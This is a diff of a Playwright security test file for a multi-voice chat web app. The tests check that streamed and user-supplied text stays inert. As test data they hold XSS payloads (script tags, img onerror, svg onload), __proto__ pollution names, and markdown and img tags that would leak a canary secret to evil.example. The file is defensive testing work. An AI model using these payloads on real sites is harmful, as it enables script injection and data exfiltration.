@@ -1,15 +1,16 @@
-/** Words that were written to hurt, through the real page: said by voices, and as names of everything (I-56, X-01 to X-11). */
+/** Words that were written to hurt, through the real page: said by voices, and as names of everything . */
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import type { Page, Request } from '@playwright/test';
 import { CORPUS, HEAVY } from '../src/views/markdown/corpus';
+import { turn } from './desk';
 import { expect, test } from './fixtures';
 import type { House } from './house';
 import { postLookout, readLookout } from './lookout';
 import type { Provider } from './provider';
 
-const CLIENT = fileURLToPath(new URL('../../src/antiphon/client', import.meta.url));
+const CLIENT = fileURLToPath(new URL('../../src/antiphon/browser', import.meta.url));
 const SECRET = 'canary-5d1f0c7a';
 const SEATS = 5;
 
@@ -73,10 +74,10 @@ function watchDoors(page: Page, house: House): string[] {
   return seen;
 }
 
-async function say(page: Page, text: string): Promise<void> {
+async function say(page: Page, position: number, text: string): Promise<void> {
   await page.getByRole('textbox', { name: 'Your message' }).fill(text);
   await page.keyboard.press('Enter');
-  await expect(page.getByRole('button', { name: 'Stop all' })).toBeVisible();
+  await expect(turn(page, position)).toBeVisible();
 }
 
 async function untilAnswered(page: Page): Promise<void> {
@@ -89,7 +90,7 @@ async function begin(house: House, panelId: string, title: string): Promise<stri
 }
 
 test('I-56 X-01 X-02 X-10: words that arrive in crumbs become nothing but words', async ({ house, provider, page }) => {
-  test.setTimeout(180_000);
+  test.slow();
   const doors = watchDoors(page, house);
   await postLookout(page);
   const { panelId } = await seatStrangers(house);
@@ -99,11 +100,11 @@ test('I-56 X-01 X-02 X-10: words that arrive in crumbs become nothing but words'
   const leak = `![](https://evil.example/?q=${SECRET}) <img src="https://evil.example/${SECRET}">`;
   const thoughts = inCrumbs(`${leak}\n\n<script>alert(9)</script>`);
   tellSeats(provider, (seat) => inCrumbs(CORPUS.filter((_, at) => at % SEATS === seat).join('\n\n')), thoughts);
-  await say(page, `Remember ${SECRET}. <script>alert(0)</script> ${leak}`);
+  await say(page, 1, `Remember ${SECRET}. <script>alert(0)</script> ${leak}`);
   await untilAnswered(page);
   const backwards = [...CORPUS].reverse();
   tellSeats(provider, (seat) => inCrumbs(backwards.filter((_, at) => at % SEATS === seat).join(' ')));
-  await say(page, 'And without lines in between?');
+  await say(page, 2, 'And without lines in between?');
   await untilAnswered(page);
 
   const { foreign, looked } = await readLookout(page);
@@ -124,7 +125,7 @@ test('I-56 X-01 X-02 X-10: words that arrive in crumbs become nothing but words'
 });
 
 test('I-56: words that were written to be slow leave the page awake', async ({ house, provider, page }) => {
-  test.setTimeout(180_000);
+  test.slow();
   const doors = watchDoors(page, house);
   await postLookout(page);
   const { panelId } = await seatStrangers(house);
@@ -135,12 +136,12 @@ test('I-56: words that were written to be slow leave the page awake', async ({ h
     const beginnings = HEAVY.filter((_, at) => at % SEATS === seat).map(([, text]) => text.slice(0, 200));
     return inCrumbs(beginnings.join('\n\n').toWellFormed());
   });
-  await say(page, 'Begin all of them.');
+  await say(page, 1, 'Begin all of them.');
   await untilAnswered(page);
   const whole = new Map(HEAVY);
   const worst = ['one word', 'wide table', 'quotes', 'list levels', 'powers in a formula'];
   tellSeats(provider, (seat) => (whole.get(worst[seat] ?? '') ?? '').match(/[\s\S]{1,2000}/g) ?? []);
-  await say(page, 'And these to the end.');
+  await say(page, 2, 'And these to the end.');
   await untilAnswered(page);
 
   await page.getByRole('textbox', { name: 'Your message' }).fill('Still here?');
@@ -150,7 +151,7 @@ test('I-56: words that were written to be slow leave the page awake', async ({ h
 });
 
 test('X-08: names, titles, topics, models and errors are never more than text', async ({ house, provider, page }) => {
-  test.setTimeout(120_000);
+  test.slow();
   const doors = watchDoors(page, house);
   await postLookout(page);
   const evil = '<img src=x onerror=alert(1)>';
@@ -160,7 +161,7 @@ test('X-08: names, titles, topics, models and errors are never more than text', 
   await house.ask('PATCH', `/v1/conversations/${id}`, { topic: '/<svg onload=alert(1)>' });
   await house.ask('PUT', '/v1/filters/__proto__', { line: 's>=1' });
   await expect(house.ask('PUT', `/v1/filters/${encodeURIComponent(evil)}`, { line: 's>=1' })).rejects.toThrow('422');
-  const { advisors } = await house.ask<{ advisors: { id: string; name: string }[] }>('GET', '/v1/advisors');
+  const { items: advisors } = await house.ask<{ items: { id: string; name: string }[] }>('GET', '/v1/advisors');
   const proto = advisors.find((each) => each.name === '__proto__');
   await house.ask('PATCH', `/v1/advisors/${proto?.id}`, { model: 'stage:<img/src=x/onerror=alert(1)>' });
   tellSeats(provider, () => [`${evil} said`]);
@@ -182,7 +183,8 @@ test('X-08: names, titles, topics, models and errors are never more than text', 
     .click();
   const inspector = page.getByRole('region', { name: 'Inspector' });
   await expect(inspector.getByRole('heading', { name: 'What __proto__ was sent' })).toBeVisible();
-  for (const form of ['Provider form', 'Raw', 'Canonical']) await inspector.getByRole('button', { name: form }).click();
+  for (const form of ['Provider form', 'Raw bytes', 'Plain'])
+    await inspector.getByRole('button', { name: form }).click();
   await expect(inspector).toContainText('onerror=alert(1)');
   await inspector.getByRole('button', { name: 'Close', exact: true }).click();
 
@@ -206,7 +208,7 @@ test('X-08: names, titles, topics, models and errors are never more than text', 
   expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
 });
 
-test('X-05 X-09: the page is served with the strict policy, and nothing it is made of needs a looser one', async ({
+test('X-01 X-09: the page is served with the strict policy, and nothing it is made of needs a looser one', async ({
   house,
 }) => {
   const page = await fetch(`${house.url}/`);
